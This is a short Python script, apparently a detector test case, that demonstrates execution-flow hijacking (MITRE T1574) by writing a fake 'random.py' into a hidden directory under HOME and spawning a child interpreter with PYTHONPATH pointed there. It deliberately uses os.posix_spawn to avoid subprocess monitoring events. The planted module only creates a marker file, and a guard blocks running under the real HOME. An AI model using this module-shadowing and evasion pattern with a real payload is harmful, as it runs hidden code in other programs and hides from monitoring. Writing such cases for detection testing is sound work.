# technique: T1574 T1036.005
"""Hijack Execution Flow (T1574) through PYTHONPATH given to a child: a
directory holding a fake `random.py` (a standard-library name, T1036.005)
is put first on the child's import path by the environment only.

The parent never imports the fake module; it writes
~/.local/lib/.pyenv-cache/random.py and starts `python -c "import random"`
with PYTHONPATH pointing there (os.posix_spawn, not subprocess, so no
subprocess.Popen event). The child imports the attacker's random.py.

A good detector raises a high alert: a child interpreter is started with
PYTHONPATH naming a writable directory, and a standard-library name is
imported from it.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import sys

shadow = os.path.join(os.path.expanduser("~"), ".local", "lib", ".pyenv-cache")
os.makedirs(shadow, exist_ok=True)
with open(os.path.join(shadow, "random.py"), "w") as f:
    f.write("import os\nopen(os.path.expanduser('~/.random-hijacked'), 'w').close()\n"
            "def random():\n    return 0.4\n")
env = dict(os.environ, PYTHONPATH=shadow)
pid = os.posix_spawn(sys.executable, [sys.executable, "-c", "import random; print(random.random())"], env)
_, status = os.waitpid(pid, 0)
print("child status", status, "hijacked:", os.path.exists(os.path.expanduser("~/.random-hijacked")))
